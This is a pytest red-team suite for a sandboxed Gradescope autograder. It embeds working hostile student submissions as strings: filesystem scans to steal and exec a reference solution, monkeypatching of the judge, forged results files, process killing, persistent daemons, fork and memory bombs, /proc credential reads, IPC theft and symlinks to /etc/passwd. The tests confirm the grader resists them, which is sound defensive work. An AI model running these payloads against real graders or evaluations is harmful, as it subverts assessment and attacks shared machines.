"""Red team: a dishonest submission against the built autograder.zip, in a simulated Gradescope run.

The base submission has correct plumbing and wrong math (three functions wrong); graded as is, it gets its
honest score. Each attack family below adds a few lines to it, several members per family, run together in one
submission (so the suite stays small): none may raise the score above the honest one, the grader must write a
results.json that says what happened, and the instructor's hidden notes must show something.

The sandbox families (processes that outlive their worker, kernel objects and the network, the run's deadline,
the trusted side's memory) run with everything this machine allows and again without a cgroup or IPC, network
and PID namespaces (GRADER_SANDBOX=bare, as in Docker without capabilities); one case runs the whole grading
inside a 768 MB memory cgroup, where this machine lets root make one.

Needs root and an interpreter an unprivileged uid can run (see tests/autograder_sim.py); skipped otherwise,
since without the isolation the grader refuses to run submissions (or, in its development mode, has none).
The trusted judge's own defences (re-judging only on a schedule, tolerance scales, degenerate alpha_bars, the
judge's cost) are tested in process at the end of this file, without the zip and without root.
"""
import concurrent.futures
import math
import os
import re
import shutil
import textwrap
import time

import pytest

from autograder_sim import REFERENCE, build, environment, grade, hidden, mutant, visible

import autograder_runner  # noqa: E402 - tools/ is on sys.path (autograder_sim)

WRONG_MATH = mutant("q_sample_minus_noise", "p_losses_mse", "p_sample_x0_divides_by_alpha")


def attack(code):
    return WRONG_MATH + "\n\n# ---- attack\n" + textwrap.dedent(code)


# answering from expected values the student can see or predict
VISIBLE_EXPECTED = attack(r'''
import glob as _glob, json as _json, os as _os, sys as _sys, types as _types
_ROOT = _os.environ.get("AUTOGRADER_ROOT", "{root}")
_SOURCES = []
_PATTERNS = [_ROOT + "/source/reference/diffusion.py", _ROOT + "/source/*.py", _ROOT + "/source/*/*",
             _ROOT + "/*/*", "/autograder/source/reference/diffusion.py", "/autograder/*/*",
             "/tmp/trusted-*/*", "/tmp/grade-*/*", "/tmp/grade-*/*/*", _os.path.expanduser("~") + "/*"]
# any copy of the solution elsewhere on the machine (the grader hides all but system folders, when it can)
_PATTERNS += ["/tmp/*/diffusion.py", "/tmp/*/*/diffusion.py", "/tmp/*/*/*/diffusion.py", "/work/*/diffusion.py",
              "/home/*/*/diffusion.py", "/srv/*/diffusion.py", "/opt/*/diffusion.py"]
_OWN = open(__file__).read()
for _pattern in _PATTERNS:
    for _path in _glob.glob(_pattern):
        if _os.path.realpath(_path) == _os.path.realpath(__file__):
            continue
        try:
            with open(_path) as _f:
                _text = _f.read()
        except (OSError, UnicodeDecodeError):
            continue
        if ("BEGIN SOLUTION" in _text or "posterior_mean_coef" in _text) and _text != _OWN and "# ---- attack" not in _text:
            _SOURCES.append(_text)
        if _path.endswith(".json") and "reference" in _text:
            _SOURCES.append(_text)
for _text in _SOURCES:  # a reference solution: use its Diffusion instead of ours
    if "class Diffusion" in _text:
        _module = _types.ModuleType("_stolen")
        exec(compile(_text, "stolen", "exec"), _module.__dict__)
        Diffusion = _module.Diffusion
        break
# predicting the inputs: the local fixture's numbers and seeds (embedded), answered by request key
import grading as _grading
_LOCAL = _grading.LOCAL_PARAMS
_grading.draw_params = lambda rng: _LOCAL  # has no effect: the inputs are drawn in another process
_real_run = _grading.run_request
_FIXTURE = {fixture}
def _answer(mod, request):
    key = _grading.request_key(request)
    return _FIXTURE.get(key) or _real_run(mod, request)
_grading.run_request = _answer
''')

# changing the judge from inside the judged process
PATCH_THE_JUDGE = attack(r'''
import builtins as _builtins, gc as _gc, sys as _sys, torch as _torch
import grading as _grading, test_diffusion as _td
for _module in (_grading, _td):
    _module.judge_check = lambda *a, **k: (True, "")
    _module.compare = lambda *a, **k: None
    _module.close = lambda *a, **k: True
_td.CHECKS[:] = []
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.Tensor.__eq__ = lambda self, other: _torch.ones((), dtype=_torch.bool)
try:
    import pytest as _pytest
    _pytest.fail = lambda *a, **k: None
except ImportError:
    pass
_builtins.__dict__["_judge_patched"] = True
_LOOT = []
for _frame in _sys._current_frames().values():  # frame walking for expected values
    while _frame is not None:
        for _name in ("expected", "ref", "reference", "plan", "params"):
            if _name in _frame.f_locals:
                _LOOT.append(_name)
        _frame = _frame.f_back
for _obj in _gc.get_objects():  # gc: any dict that looks like the reference's outputs
    if isinstance(_obj, dict) and ("reference" in _obj or "expected" in _obj):
        _LOOT.append("dict")

class _Liar(_torch.Tensor):  # comparisons never report a difference
    def __eq__(self, other):
        return _torch.ones_like(self, dtype=_torch.bool)
    def __sub__(self, other):
        return _torch.zeros_like(self).as_subclass(_torch.Tensor)
    def allclose(self, *a, **k):
        return True

_q_sample = Diffusion.q_sample
def _lying_q_sample(self, x_0, t, noise):
    return _q_sample(self, x_0, t, noise).as_subclass(_Liar)
Diffusion.q_sample = _lying_q_sample
''')

# forging the report channel
FORGE_REPORTS = attack(r'''
import json as _json, os as _os, signal as _signal
_found = {}
for _path in ["/proc/self/environ", "/proc/%d/environ" % _os.getppid(), "/proc/%d/cmdline" % _os.getppid(),
              "/proc/%d/mem" % _os.getppid(), "/proc/%d/fd" % _os.getppid()]:
    try:
        if _os.path.isdir(_path):
            _found[_path] = _os.listdir(_path)
        else:
            with open(_path, "rb") as _f:
                _found[_path] = _f.read(4096)
    except OSError:
        pass
_fake = {"score": 100, "tests": [], "output": "all passed"}
for _target in [_os.environ.get("AUTOGRADER_ROOT", "{root}") + "/results/results.json", "/autograder/results/results.json",
                "results.json", "../results.json"]:
    try:
        with open(_target, "w") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
_lines = [_json.dumps({"id": "test_diffusion.py::test_check[%d]" % _k, "passed": True, "nonce": "x"}) for _k in range(60)]
_lines += [_json.dumps({"i": _k, "out": {"error": "forged"}}) for _k in range(60)]
_lines += [_json.dumps({"ready": True}), _json.dumps({"done": True}), _json.dumps({"imported": True}),
           _json.dumps({"results": {"q_sample_matches_reference-small_T": [True, "forged"]}}), "[" * 100000]
for _fd in range(0, 64):
    for _line in _lines:
        try:
            _os.write(_fd, (_line + "\n").encode())
        except OSError:
            break
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
''')

# outliving the grader: setsid daemons, double fork, late threads, finalizers, atexit
OUTLIVE = attack(r'''
import atexit as _atexit, json as _json, os as _os, threading as _threading, time as _time, weakref as _weakref
_RESULTS = _os.environ.get("AUTOGRADER_ROOT", "{root}") + "/results/results.json"
def _tamper():
    for _ in range(200):
        for _path in (_RESULTS, "/tmp/tampered-{tag}"):
            try:
                with open(_path, "w") as _f:
                    _json.dump({"score": 100, "tests": []}, _f)
            except OSError:
                pass
        _time.sleep(0.1)
if _os.fork() == 0:  # setsid daemon, double fork
    _os.setsid()
    if _os.fork() == 0:
        _tamper()
    _os._exit(0)
_threading.Thread(target=_tamper, daemon=False).start()
_atexit.register(_tamper)
class _Finalizer:
    def __del__(self):
        _tamper()
_keep = _Finalizer()
_weakref.finalize(_keep, _tamper)
''')

# denial of service inside the probes: protocol flood, huge outputs, os._exit, infinite loop, memory bomb, forks
RESOURCE_ATTACKS = attack(r'''
import os as _os, time as _time, torch as _torch
_p_losses = Diffusion.p_losses
def _exit_in_p_losses(self, x_0, t, noise):
    _os._exit(0)
Diffusion.p_losses = _exit_in_p_losses
def _loop_forever(self, img):
    while True:
        pass
Diffusion.p_sample_loop = _loop_forever
def _memory_bomb(self, batch_size):
    blocks = []
    for _ in range(64):
        blocks.append(_torch.ones(64 << 20, dtype=_torch.uint8))  # 64 MB each, touched
    return blocks
Diffusion.sample = _memory_bomb
_forward = Diffusion.forward
def _forks(self, x_0, noise):
    for _ in range(10):
        if _os.fork() == 0:
            _time.sleep(600)
            _os._exit(0)
    return _forward(self, x_0, noise)
Diffusion.forward = _forks
_q_sample = Diffusion.q_sample
def _huge(self, x_0, t, noise):
    if x_0.shape[0] == 7:
        return _torch.zeros(60_000_000)
    return _q_sample(self, x_0, t, noise)
Diffusion.q_sample = _huge
''')

FLOOD = attack(r'''
import os as _os, sys as _sys
_q_sample = Diffusion.q_sample
def _flood(self, x_0, t, noise):
    try:
        print("y" * (1 << 20) * 12, file=_sys.stderr)  # more than the log takes
    except OSError:
        pass
    block = b"x" * (1 << 20)
    for _ in range(100):
        for _fd in range(3, 12):
            try:
                _os.write(_fd, block)
            except OSError:
                pass
    return _q_sample(self, x_0, t, noise)
Diffusion.q_sample = _flood
''')


# a decoy schedule buffer: the reference's name holds crafted values that make the reference reproduce the
# buggy q_sample (so a re-judge "on the student's own schedule" would pass it), while the code runs on the true
# values kept under another name
DECOY_SCHEDULE = attack(r'''
_plain_init, _plain_p_sample = Diffusion.__init__, Diffusion.p_sample
def _init_with_decoy(self, *args, **kwargs):
    _plain_init(self, *args, **kwargs)
    if isinstance(getattr(self, "sqrt_one_minus_alphas_cumprod", None), torch.Tensor):
        self.register_buffer("_soma", self.sqrt_one_minus_alphas_cumprod.clone())
        self.sqrt_one_minus_alphas_cumprod = -self._soma  # what q_sample's "- noise" looks like, as a schedule
def _q_sample_on_true_values(self, x_0, t, noise):
    return extract(self.sqrt_alphas_cumprod, t, x_0.shape) * x_0 - extract(self._soma, t, x_0.shape) * noise
def _p_sample_on_true_values(self, x, t, t_index):
    decoy, self.sqrt_one_minus_alphas_cumprod = self.sqrt_one_minus_alphas_cumprod, self._soma
    try:
        return _plain_p_sample(self, x, t, t_index)
    finally:
        self.sqrt_one_minus_alphas_cumprod = decoy
Diffusion.__init__, Diffusion.q_sample, Diffusion.p_sample = (_init_with_decoy, _q_sample_on_true_values,
                                                              _p_sample_on_true_values)
''')

# cheating only while graded: the grader's stand-in modules give it away, and then the file stores a crafted schedule
# buffer (sqrt_alphas_cumprod = sqrt(alpha_t), which makes the x_0 / sqrt(alpha_t) of this p_sample "right") while
# its functions run on the true values, kept as plain lists (so no stored tensor is a decoy), and it pads what the
# schedule probe reports. Without the grader it is the wrong-math submission; with it, it must score exactly that too
# (the judge before issue 15 gave it 79.71 where the wrong-math submission has 74.77, and took 27 s to judge it)
GRADED_ONLY = attack(r'''
try:
    import wandb as _wandb  # on the grader, an inert stand-in
    _GRADED = "grader stand-in" in repr(_wandb)
except ImportError:
    _GRADED = False
_CRAFTED = ("sqrt_alphas_cumprod",)
_plain_init, _plain_q_sample, _plain_p_sample = Diffusion.__init__, Diffusion.q_sample, Diffusion.p_sample
def _init_crafted(self, *args, **kwargs):
    _plain_init(self, *args, **kwargs)
    self._true = {n: getattr(self, n).tolist() for n in _CRAFTED}
    self.sqrt_alphas_cumprod = self.alphas.sqrt()
def _on_true_values(function):
    def run(self, x, t, *args):
        crafted = {n: getattr(self, n) for n in _CRAFTED}
        for n in _CRAFTED:
            setattr(self, n, torch.tensor(self._true[n], device=x.device))
        try:
            return function(self, x, t, *args)
        finally:
            for n, v in crafted.items():
                setattr(self, n, v)
    return run
if _GRADED:
    import grading as _grading
    _stored_vectors = _grading.stored_vectors
    _grading.stored_vectors = lambda d, T: _stored_vectors(d, T) + [
        {"name": "pad%d" % i, "values": [0.5] * T} for i in range(400_000 // T)]
    Diffusion.__init__, Diffusion.q_sample, Diffusion.p_sample = (_init_crafted, _on_true_values(_plain_q_sample),
                                                                  _on_true_values(_plain_p_sample))
''')
# outliving a worker to attack the next one: a setsid daemon that stops the next pids (ns_last_pid) and kills every
# other worker of its uid before it says "ready" (once that switched the hiding off), a zombie leader whose live
# thread holds 300 MB (invisible to a process list that skips state Z), and a crash in a probe whose check fails
# anyway, so that the grader restarts its worker; a world-readable copy of the reference waits under /tmp for an
# unhidden one
SURVIVORS = attack(r"""
import ctypes as _ctypes, os as _os, signal as _signal, sys as _sys, threading as _threading, time as _time
for _path in ["/tmp/ddpm-copy-{tag}/diffusion.py"]:
    try:
        _text = open(_path).read()
    except OSError:
        continue
    _module = {}
    exec(compile(_text, "stolen", "exec"), _module)
    Diffusion = _module["Diffusion"]
_OURS = _os.getpgid(0)  # the worker's process group: its threads and this import
_WORKER = int(_os.readlink("/proc/self"))  # this worker's pid as /proc numbers it
def _saboteur():
    while True:
        try:
            last = int(open("/proc/sys/kernel/ns_last_pid").read())
        except (OSError, ValueError):
            last = 0
        for pid in range(last + 1, last + 30):  # whoever comes next: a killer, a restarted worker
            try:
                if _os.getpgid(pid) not in (_OURS, _os.getpgid(0)):
                    _os.kill(pid, _signal.SIGSTOP)
            except OSError:
                pass
        for name in _os.listdir("/proc"):  # any other worker (a child of root's grader), before it says "ready"
            try:
                parent = open("/proc/%s/stat" % name).read().rsplit(")", 1)[1].split()[1]
                if (b"probe_worker" in open("/proc/%s/cmdline" % name, "rb").read() and int(name) != _WORKER
                        and _os.stat("/proc/" + parent).st_uid == 0):
                    _os.kill(int(name), _signal.SIGKILL)
            except (OSError, ValueError, IndexError):
                pass
        _time.sleep(0.01)
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _saboteur()
    _os._exit(0)
def _hold_memory():
    _block = bytearray(300 << 20)
    for _k in range(0, len(_block), 4096):
        _block[_k] = 1
    _time.sleep(3600)
if _os.fork() == 0:
    _os.setsid()
    _threading.Thread(target=_hold_memory).start()
    _time.sleep(0.5)
    _ctypes.CDLL(None).syscall(60, 0)  # exit(2) of the main thread only: the leader reads Z, the thread runs on
_q_sample = Diffusion.q_sample
def _crash(self, x_0, t, noise):  # in the large-T q_sample probe only, whose check this q_sample fails anyway
    _frame = _sys._getframe(1)
    while _frame is not None and _frame.f_code.co_name != "probe_q_sample":
        _frame = _frame.f_back
    if _frame is not None and _frame.f_locals.get("T", 0) >= 600:
        _os._exit(0)
    return _q_sample(self, x_0, t, noise)
Diffusion.q_sample = _crash
""")

# kernel objects outside the process tree: SysV shared memory (touched, detached), SysV and POSIX message queues
# and semaphores left behind, files in the shared temporary folders, the messages of a queue the machine holds,
# and connections to root's loopback TCP and abstract unix sockets
KERNEL_OBJECTS = textwrap.dedent(r"""
import ctypes as _ctypes, os as _os, socket as _socket
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_shm = _libc.shmget(0x5EED0000 + {key}, 64 << 20, 0o1666)
if _shm >= 0:
    _address = _libc.shmat(_shm, None, 0)
    if _address not in (None, _ctypes.c_void_p(-1).value):
        _ctypes.memset(_address, 1, 64 << 20)
        _libc.shmdt(_ctypes.c_void_p(_address))
_queue = _libc.msgget(0x5EED1000 + {key}, 0o1666)
_message = _ctypes.create_string_buffer(b"\x01\x00\x00\x00\x00\x00\x00\x00left for the next grading", 64)
_libc.msgsnd(_queue, _message, 30, 0o4000)
_libc.semget(0x5EED2000 + {key}, 4, 0o1666)
try:
    _rt = _ctypes.CDLL("librt.so.1", use_errno=True)
except OSError:
    _rt = _libc
_rt.mq_open(b"/ddpm-{tag}", 0o100 | 0o2, 0o666, None)
_host = _libc.msgget(0x5EED3000 + {key}, 0)  # the machine's queue: read and take its message if it is reachable
_got = _ctypes.create_string_buffer(256)
if _host >= 0 and _libc.msgrcv(_host, _got, 200, 0, 0o4000) > 0:
    open(_os.path.expanduser("~") + "/stolen", "wb").write(_got.raw)
_hq = _rt.mq_open(b"/ddpm-host-{tag}", 0o2 | 0o4000, 0, None)
if _hq >= 0:
    _rt.mq_receive(_hq, _got, 8192, None)
for _path in ["/tmp/ddpm-file-{tag}", "/dev/shm/ddpm-{tag}", "/var/tmp/ddpm-file-{tag}"]:
    try:
        with open(_path, "wb") as _f:
            _f.write(b"x" * 4096)
    except OSError:
        pass
for _family, _address in ((_socket.AF_INET, ("127.0.0.1", {port})), (_socket.AF_UNIX, "\0ddpm-{tag}-{port}")):
    try:
        _s = _socket.socket(_family, _socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect(_address)
        _s.sendall(b"from the student")
    except OSError:
        pass
""")

# the whole run past Gradescope's limit: every probe of the functions it needs waits for ever, with a probe timeout
# longer than the run (the test shrinks the 540 s deadline to 24 s)
PAST_THE_DEADLINE = attack(r"""
import time as _time
def _forever(*args, **kwargs):
    while True:
        _time.sleep(1)
Diffusion.forward = Diffusion.p_sample_loop = Diffusion.sample = _forever
""")

# inside a 768 MB container: a memory bomb in a daemon, and in p_losses (already wrong) a first answer to every
# probe in 390 kB of floats (16 MB in all, some 120 MB once parsed) and a crash, so that the worker restarts (a
# grader whose protocol budget restarted with each worker, and kept parsed answers, held gigabytes this way)
CONTAINER_768 = attack(r"""
import os as _os, stat as _stat, time as _time
if _os.fork() == 0:
    _os.setsid()
    _time.sleep(2)  # once the submission is imported
    _blocks = []
    for _ in range(64):
        _blocks.append(bytearray(64 << 20))
        for _k in range(0, len(_blocks[-1]), 4096):
            _blocks[-1][_k] = 1
    _time.sleep(3600)
_answer = ", ".join(["0.123456789"] * 30000)
def _flood_and_crash(self, x_0, t, noise):
    for _fd in range(3, 16):
        try:
            if not _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
                continue
            for _i in range(41):
                _os.write(_fd, ('{"i": %d, "out": [%s]}\n' % (_i, _answer)).encode())
        except OSError:
            pass
    _os._exit(0)
Diffusion.p_losses = _flood_and_crash
""")


DEADLINE_S = 24  # the run's deadline in the past-the-deadline case (Gradescope's 600 s limit, shrunk for the test)


class Listeners:
    """Root-owned loopback TCP and abstract unix listeners that record every connection the student's code makes."""

    def __init__(self, tag):
        import socket
        import threading

        self.connections = []
        self.sockets = [socket.socket(socket.AF_INET, socket.SOCK_STREAM), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)]
        self.sockets[0].bind(("127.0.0.1", 0))
        self.port = self.sockets[0].getsockname()[1]
        self.sockets[1].bind(f"\0ddpm-{tag}-{self.port}")
        for s in self.sockets:
            s.listen(8)
            s.settimeout(0.2)
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()

    def _accept(self, s):
        while s.fileno() >= 0:
            try:
                conn, _ = s.accept()
            except OSError:
                continue
            self.connections.append(conn.recv(100))
            conn.close()

    def close(self):
        for s in self.sockets:
            s.close()


def container_peak(cgroup):
    folder, version = cgroup.dirs["memory"]
    with open(os.path.join(folder, "memory.peak" if version == 2 else "memory.max_usage_in_bytes")) as f:
        return int(f.read()) >> 20


def host_queues(key, tag):
    """A SysV message queue and a POSIX queue of the machine (root's, readable by anyone), one message each."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.msgget(0x5EED3000 + key, 0o1666)
    libc.msgsnd(queue, ctypes.create_string_buffer(b"\x01" + b"\x00" * 7 + b"the reference's numbers", 64), 24, 0)
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
    except OSError:
        rt = libc
    posix = rt.mq_open(f"/ddpm-host-{tag}".encode(), 0o100 | 0o2, 0o666, None)
    rt.mq_send(posix, b"the reference's numbers", 23, 0)

    def messages_left():
        sysv = sum(int(line.split()[4]) for line in open("/proc/sysvipc/msg").readlines()[1:]
                   if int(line.split()[1]) == queue)  # qnum column
        attr = (ctypes.c_long * 8)()
        rt.mq_getattr(posix, attr)
        return sysv, attr[3]

    def remove():
        libc.msgctl(queue, 0, None)
        rt.mq_unlink(f"/ddpm-host-{tag}".encode())

    return messages_left, remove


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    if environment()[1] != "isolated":
        pytest.skip("needs root and an interpreter an unprivileged uid can run (see tests/autograder_sim.py)")
    import json

    base = tmp_path_factory.mktemp("attacks")
    zip_path = base / "autograder.zip"
    build(zip_path)
    with open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_fixtures",
                           "reference_outputs.json")) as f:
        outputs = json.load(f)["outputs"]
    small = {k: v for k, v in outputs.items() if len(json.dumps(v)) < 20000}  # what fits in a 1 MB submission
    tag = os.urandom(4).hex()
    cases = {
        "honest": {"diffusion.py": WRONG_MATH},
        "visible_expected": {"diffusion.py": VISIBLE_EXPECTED.replace("{fixture}", repr(small))},
        "patch_the_judge": {"diffusion.py": PATCH_THE_JUDGE},
        "forge_reports": {"diffusion.py": FORGE_REPORTS},
        "outlive": {"diffusion.py": OUTLIVE.replace("{tag}", tag)},
        "resources": {"diffusion.py": RESOURCE_ATTACKS},
        "flood": {"diffusion.py": FLOOD},
        "decoy_schedule": {"diffusion.py": DECOY_SCHEDULE},
        "graded_only": {"diffusion.py": GRADED_ONLY},
        "symlink_dev_zero": {"diffusion.py": ("symlink", "/dev/zero")},
        "symlink_reference": {"diffusion.py": ("symlink", "{root}/source/reference/diffusion.py")},
        "symlink_outside": {"hw/diffusion.py": ("symlink", "/etc/passwd")},
        "refused_no_unprivileged_python": {"diffusion.py": "open('/tmp/ran-as-root-{tag}', 'w').close()\n" + REFERENCE},
        "beyond_the_worker": {"diffusion.py": SURVIVORS + KERNEL_OBJECTS},
        "past_the_deadline": {"diffusion.py": PAST_THE_DEADLINE},
        "container_768": {"diffusion.py": CONTAINER_768},
        # the same without a cgroup or IPC / network / PID namespaces, as in Docker without capabilities
        "beyond_the_worker_bare": {"diffusion.py": SURVIVORS + KERNEL_OBJECTS},
    }
    # the same (otherwise secret) inputs for every case, so that scores compare exactly
    seed = {"GRADER_FIXED_SEED": str(int.from_bytes(os.urandom(6), "big"))}
    env = {name: dict(seed) for name in cases}
    env["resources"].update(GRADER_PROBE_TIMEOUT="5", GRADER_MEMORY_MB="1200")
    env["past_the_deadline"].update(GRADER_TOTAL_LIMIT=str(DEADLINE_S), GRADER_PROBE_TIMEOUT="600")
    env["container_768"].update(GRADER_MEMORY_MB="300")
    env["beyond_the_worker_bare"].update(GRADER_SANDBOX="bare")
    # a world-readable copy of the reference elsewhere on the machine (instructors' own hosts have them)
    copy = f"/tmp/ddpm-copy-{tag}"
    os.mkdir(copy)
    os.chmod(copy, 0o755)
    with open(os.path.join(copy, "diffusion.py"), "w") as f:
        f.write(REFERENCE)
    os.chmod(os.path.join(copy, "diffusion.py"), 0o644)
    listeners = Listeners(tag)
    key = int.from_bytes(os.urandom(2), "big")
    messages_left, remove_queues = host_queues(key, tag)
    container = autograder_runner.Cgroup(f"test-768-{tag}")  # the whole run of one case inside 768 MB
    if "memory" in container.dirs:
        container.set_limits(memory=768 << 20)
    cgroups = {"container_768": container.join_files()} if "memory" in container.dirs else {}
    for name, port, queue in (("beyond_the_worker", listeners.port, key),
                              ("beyond_the_worker_bare", 1, key + 1)):  # bare: nothing listens on port 1, no queue
        cases[name] = {k: v.replace("{port}", str(port)).replace("{key}", str(queue)) for k, v in cases[name].items()}
    # an interpreter root can run but an unprivileged uid cannot (like one installed under /root, mode 0700)
    private = base / "root-only"
    private.mkdir()
    os.chmod(private, 0o700)
    (private / "python").write_text('#!/bin/sh\nif [ "$(id -u)" != 0 ]; then echo "root-only interpreter" >&2; exit 126; fi\n'
                                    f'exec {environment()[0]} "$@"\n')
    os.chmod(private / "python", 0o755)
    pythons = {"refused_no_unprivileged_python": str(private / "python")}

    def run(name):
        root = base / name
        files = {k: (v if isinstance(v, tuple) else v.replace("{root}", str(root)).replace("{tag}", tag))
                 for k, v in cases[name].items()}
        files = {k: (("symlink", v[1].replace("{root}", str(root))) if isinstance(v, tuple) else v) for k, v in files.items()}
        started = time.time()
        proc, result = grade(zip_path, root, files, env[name], python=pythons.get(name), cgroup=cgroups.get(name))
        seconds[name] = time.time() - started
        return name, (proc, result)

    seconds = {}
    try:
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            graded = dict(pool.map(run, cases))
        machine = {"connections": list(listeners.connections), "host messages": messages_left(), "seconds": seconds,
                   "container": container if cgroups else None,
                   "container peak MB": container_peak(container) if cgroups else None}
    finally:
        listeners.close()
        remove_queues()
        shutil.rmtree(copy, ignore_errors=True)
        container.remove(time.time() + 10)
    return graded, tag, base, machine


def honest(results):
    return results[0]["honest"][1]["score"]


def test_the_wrong_math_submission_gets_an_honest_partial_score(results):
    _, result = results[0]["honest"]
    assert 20 < result["score"] < 80, result["output"]
    failing = {t["name"].split(":")[0] for t in visible(result) if t["score"] < t["max_score"]}
    assert failing == {"q_sample", "p_losses", "p_sample"}, failing


@pytest.mark.parametrize("name,note", [
    ("visible_expected", "submission mentions:"),
    ("patch_the_judge", "submission mentions:"),
    ("forge_reports", "unexpected protocol lines"),
    ("outlive", "processes besides the worker"),
    ("resources", "probes stopped"),
    ("flood", "flood"),
])
def test_attacks_leave_the_honest_score_and_a_note(results, name, note):
    graded = results[0]
    proc, result = graded[name]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert result["score"] <= honest(results) + 1e-6, (name, result["score"], honest(results), result["output"])
    assert len(visible(result)) == len(visible(graded["honest"][1]))
    assert note in hidden(result), hidden(result)[-3000:]
    assert re.search(r"ran as uid (\d+)", hidden(result)), hidden(result)[-2000:]


def test_attacks_that_only_compute_keep_exactly_the_honest_score(results):
    graded = results[0]
    for name in ("visible_expected", "patch_the_judge", "outlive", "decoy_schedule", "graded_only"):
        assert abs(graded[name][1]["score"] - honest(results)) < 1e-6, (name, graded[name][1]["output"])


def test_daemons_and_late_writers_do_not_touch_the_results(results):
    graded, tag = results[:2]
    proc, result = graded["outlive"]
    assert result["score"] != 100 and result["tests"]
    assert not os.path.exists(f"/tmp/tampered-{tag}") or os.stat(f"/tmp/tampered-{tag}").st_uid != 0
    if os.path.exists(f"/tmp/tampered-{tag}"):
        os.remove(f"/tmp/tampered-{tag}")


def test_resource_attacks_cost_only_the_functions_they_break(results):
    graded = results[0]
    _, result = graded["resources"]
    outputs = {t["name"]: t["output"] for t in visible(result)}
    assert any("ended early" in o for n, o in outputs.items() if n.startswith("p_losses:")), outputs
    assert any("longer than 5 s" in o for n, o in outputs.items() if n.startswith("p_sample_loop:")), outputs
    assert any("MB of memory" in o for n, o in outputs.items() if n.startswith("sample:")), outputs
    schedule = [t for t in visible(result) if t["name"].startswith("schedule:")]
    assert all(t["score"] == t["max_score"] for t in schedule), [t["output"][:300] for t in schedule]


@pytest.mark.parametrize("name", ["symlink_dev_zero", "symlink_reference", "symlink_outside"])
def test_symlinked_submissions_are_refused_without_following(results, name):
    graded = results[0]
    proc, result = graded[name]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert result["score"] == 0
    assert all("symbolic link" in t["output"] for t in visible(result)), visible(result)[0]["output"]


def test_no_unprivileged_interpreter_means_refusal_not_root(results):
    graded, tag = results[:2]
    proc, result = graded["refused_no_unprivileged_python"]
    assert result["score"] == 0
    assert "REFUSED" in result["output"] and "never run as root" in result["output"]
    assert not os.path.exists(f"/tmp/ran-as-root-{tag}"), "the submission ran although the grader refused"
    assert "refused" in hidden(result) and len(visible(result)) == 43


def uid_of(result):
    return int(re.search(r"ran as uid (\d+)", hidden(result)).group(1))


def test_nothing_of_the_student_is_left_after_any_grading(results):
    graded, tag = results[:2]
    for name, (_, result) in graded.items():
        if "ran as uid" not in hidden(result):
            continue
        uid = uid_of(result)
        assert autograder_runner.processes_of(uid) == [], f"{name}: processes or threads of the student's uid live on"
        assert autograder_runner.ipc_objects_of(uid) == [], name
        assert autograder_runner.files_of(uid) == [], name
    assert not any(os.path.exists(p) for p in (f"/tmp/ddpm-file-{tag}", f"/dev/shm/ddpm-{tag}", f"/var/tmp/ddpm-file-{tag}"))


@pytest.mark.parametrize("name", ["beyond_the_worker", "beyond_the_worker_bare"])
def test_survivors_cannot_stop_the_grader_lift_its_isolation_or_hide_their_memory(results, name):
    graded, _, _, machine = results
    proc, result = graded[name]
    notes = hidden(result)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), notes[-3000:])
    assert "ran without hiding" not in notes and "private mount namespace" in notes, notes[-3000:]
    assert "processes besides the worker" in notes and "ended early" in " ".join(t["output"] for t in visible(result))
    # the zombie leader's thread holds 300 MB on top of the interpreter: counted
    baseline = int(re.search(r"the interpreter after import torch \((\d+)\)", notes).group(1))
    peak = int(re.search(r"peak memory of the student's processes \(MB\): (\d+)", notes).group(1))
    assert peak >= baseline + 290, (baseline, peak)
    assert machine["seconds"][name] < 200
    assert ("cgroup: none could be made" in notes) == name.endswith("_bare"), notes[-3000:]


def test_kernel_objects_and_the_network_are_the_gradings_own(results):
    graded, _, _, machine = results
    proc, result = graded["beyond_the_worker"]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), hidden(result)[-3000:])
    assert machine["connections"] == [], "the student's process reached root's loopback or abstract unix socket"
    assert machine["host messages"] == (1, 1), "the student's process took the machine's queued messages"
    assert "namespaces: private IPC, network" in hidden(result), hidden(result)[-3000:]


def test_without_namespaces_the_uids_ipc_objects_are_removed_and_the_notes_say_what_is_shared(results):
    graded = results[0]
    proc, result = graded["beyond_the_worker_bare"]
    notes = hidden(result)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert abs(result["score"] - honest(results)) < 1e-6, (result["score"], honest(results), notes[-3000:])
    removed = re.search(r"IPC objects of the uid removed: (.*)", notes)
    assert removed and all(kind in removed.group(1) for kind in ("shm", "msg", "sem", "1 POSIX message queues")), notes
    assert "network: NOT isolated" in notes and "IPC: shared with the machine" in notes


def test_a_run_past_the_deadline_still_writes_its_results_in_time(results):
    graded, _, _, machine = results
    proc, result = graded["past_the_deadline"]
    assert autograder_runner.TOTAL_S <= 540, "results.json must be written by 9 minutes, under Gradescope's 10"
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert machine["seconds"]["past_the_deadline"] < DEADLINE_S + 4, machine["seconds"]
    assert len(visible(result)) == len(visible(graded["honest"][1])) and result["score"] <= honest(results) + 1e-6
    looping = [t for t in visible(result) if t["name"].split(":")[0] in ("forward", "p_sample_loop", "sample")]
    assert looping and all("time limit" in t["output"] for t in looping), [t["output"][:200] for t in looping]


def test_the_trusted_side_fits_a_768_mb_container_whatever_the_student_sends(results):
    graded, _, _, machine = results
    if machine["container"] is None:
        pytest.skip("no memory cgroup can be made on this machine (needs a writable cgroup with memory control)")
    proc, result = graded["container_768"]
    notes = hidden(result)
